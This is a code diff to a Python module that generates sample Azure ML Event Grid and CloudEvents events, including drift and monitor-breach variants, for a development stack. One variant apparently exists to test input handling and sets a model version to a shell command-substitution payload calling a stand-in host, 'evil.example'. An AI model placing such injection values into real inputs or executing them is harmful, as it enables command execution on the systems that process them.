@@ -1,32 +1,82 @@
-"""A sample event of each type, spelt as Azure ML spells it: what ``send`` sends and ``preview --all`` starts from.
+"""Sample events, made from what the event types declare: what ``send`` sends and ``preview --all`` starts from.
 
-Azure ML writes the data's keys in camelCase for runs, and in PascalCase for models and drift.
+``make docs`` writes those of ``sample_files`` to devstack/events.
 """
 
-from collections.abc import Callable, Mapping
+import re
+import uuid
+from collections.abc import Mapping
 from typing import Any, Final
 
-from shared.events.event import AML_PREFIX
+from handlers import EVENT_TYPES
+from shared.events.runs import MONITOR_BREACH_TAG
+from tools.events.documents import Document, Schema, in_schema
 
 WORKSPACE: Final = (
     "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/sample-group"
     "/providers/Microsoft.MachineLearningServices/workspaces/sample-workspace"
 )
-_EXPERIMENT_ID: Final = "11111111-1111-1111-1111-111111111111"
+SAMPLE_NAMES: Final = tuple(EVENT_TYPES)
+"""The event types, as routes.yaml names them."""
+
 _TIME: Final = "2026-11-20T10:00:00.0000000Z"
 
 
-def sample_event(name: str, number: int = 1) -> dict[str, Any]:
+def _breach(signal: str) -> dict[str, Any]:
+    """What a step of a monitor's run holds if its signal has breached the threshold."""
+    return {
+        "experimentName": "sample-monitor",
+        "runType": "azureml.StepRun",
+        "runTags": {MONITOR_BREACH_TAG: f"Signal {signal} has failed: features violate metric thresholds"},
+        "runProperties": {"azureml.pipelinerunid": "sample_monitor_run"},
+        "runStatus": "Completed",
+    }
+
+
+# From a file's name to its event's type and what is different from the type's own sample.
+_VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
+    "run-completed": (
+        "RunCompleted",
+        {
+            "runTags": {"dataset": "transactions:31"},
+            "runProperties": {
+                "_azureml.ComputeTargetType": "amlctrain",
+                "azureml.git.branch": "main",
+                "azureml.git.commit": "2f8c1be0d94a67352ec7f1a08b5d3e96c47a0b1d",
+                "azureml.git.repository_uri": "https://dev.azure.com/contoso/mlops/_git/training",
+            },
+        },
+    ),
+    "run-completed-automl-child": (
+        "RunCompleted",
+        {
+            "runId": "AutoML_3b8d5f70-6c1e-4a92-b4d7-90e2f1c8a635_12",
+            "runType": None,
+            "runProperties": {"runTemplate": "automl_child", "iteration": "12"},
+        },
+    ),
+    "run-status-changed-monitor-breach": ("RunStatusChanged", _breach("data-drift")),
+    "run-status-changed-monitor-breach.cloud": ("RunStatusChanged", _breach("prediction-drift")),
+    "run-status-changed-running": ("RunStatusChanged", {"runStatus": "Running"}),
+    "model-registered-experiment": ("ModelRegistered", {"ModelTags": {"stage": "experiment"}}),
+    "model-registered-unsafe-version": ("ModelRegistered", {"ModelVersion": "21$(curl evil.example)"}),
+    "dataset-drift-detected.cloud": ("DatasetDriftDetected", {"DataDriftName": "another-monitor"}),
+    "dataset-drift-detected-again": ("DatasetDriftDetected", {}),
+    "dataset-drift-detected-small": ("DatasetDriftDetected", {"DriftCoefficient": 0.117}),
+}
+
+
+def sample_event(name: str, number: int = 1) -> Document:
     """One event in the Event Grid schema.
 
     :param name: the type as routes.yaml names it, for example ``RunCompleted``.
     :param number: goes into what identifies the occurrence, so that events with other numbers are other occurrences.
     :raises KeyError: there is no such type.
     """
-    subject, data = _SAMPLES[name](number)
+    subject, data = EVENT_TYPES[name].sample(number)
     return {
         "topic": WORKSPACE,
-        "eventType": AML_PREFIX + name,
+        "eventType": EVENT_TYPES[name].type,
         "subject": subject,
         "eventTime": _TIME,
         "id": f"00000000-0000-0000-0000-{number:012x}",
@@ -36,72 +86,24 @@ def sample_event(name: str, number: int = 1) -> dict[str, Any]:
     }
 
 
-def sample_run_id(number: int) -> str:
-    """The id of the run that a sample tells of."""
-    return f"sample_run_{number:08x}"
+def sample_files() -> dict[str, Document]:
+    """Return the events that are kept as files, by the files' names without ``.json``, type by type.
+
+    There is one of each type in each schema (``*.cloud`` are CloudEvents), and variants with which routes.yaml deals
+    in other ways. All are different occurrences, in the order in which they are to be sent.
+    """
+    plain = [(f"{_kebab_case(name)}{suffix}", name) for name in EVENT_TYPES for suffix in ("", ".cloud")]
+    files = {**{file: (name, {}) for file, name in plain}, **_VARIANTS}
+    ordered = sorted(files, key=lambda file: (SAMPLE_NAMES.index(files[file][0]), file))
+    return {file: _file(file, number, *files[file]) for number, file in enumerate(ordered, 1)}
 
 
-_Sample = tuple[str, dict[str, Any]]
+def _file(file: str, number: int, name: str, changes: Mapping[str, Any]) -> Document:
+    event = sample_event(name, number)
+    event["data"] |= changes
+    event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, file))
+    return in_schema(event, Schema.CLOUD if file.endswith(".cloud") else Schema.EVENT_GRID)
 
 
-def _run(number: int) -> _Sample:
-    run_id = sample_run_id(number)
-    return f"experiments/{_EXPERIMENT_ID}/runs/{run_id}", {
-        "experimentId": _EXPERIMENT_ID,
-        "experimentName": "train",
-        "runId": run_id,
-        "runType": "azureml.scriptrun",
-        "runTags": {},
-        "runProperties": {},
-    }
-
-
-def _run_failed(number: int) -> _Sample:
-    subject, data = _run(number)
-    return subject, {**data, "runStatus": "Failed"}
-
-
-def _model_registered(number: int) -> _Sample:
-    return f"models/sample-model:{number}", {
-        "ModelName": "sample-model",
-        "ModelVersion": str(number),
-        "ModelTags": {"stage": "candidate"},
-        "ModelProperties": {},
-    }
-
-
-def _model_deployed(number: int) -> _Sample:
-    return "endpoints/sample-service", {
-        "ServiceName": "sample-service",
-        "ServiceComputeType": "AKS",
-        "ModelIds": f"sample-model:{number}",
-        "ServiceTags": {},
-        "ServiceProperties": {},
-    }
-
-
-def _drift_detected(number: int) -> _Sample:
-    monitor_id = "22222222-2222-2222-2222-222222222222"
-    run_id = sample_run_id(number)
-    return f"datadrifts/{monitor_id}/runs/{run_id}", {
-        "DataDriftId": monitor_id,
-        "DataDriftName": "sample-monitor",
-        "RunId": run_id,
-        "BaseDatasetId": "33333333-3333-3333-3333-333333333333",
-        "TargetDatasetId": "44444444-4444-4444-4444-444444444444",
-        "DriftCoefficient": 0.5,
-        "StartTime": "2026-11-13T00:00:00Z",
-        "EndTime": "2026-11-20T00:00:00Z",
-    }
-
-
-_SAMPLES: Final[Mapping[str, Callable[[int], _Sample]]] = {
-    "RunCompleted": _run,
-    "RunStatusChanged": _run_failed,
-    "ModelRegistered": _model_registered,
-    "ModelDeployed": _model_deployed,
-    "DatasetDriftDetected": _drift_detected,
-}
-
-SAMPLE_NAMES: Final = tuple(_SAMPLES)
-"""The types there are samples of; a test holds them equal to the types that the app handles."""
+def _kebab_case(name: str) -> str:
+    return re.sub(r"(?<!^)(?=[A-Z])", "-", name).lower()
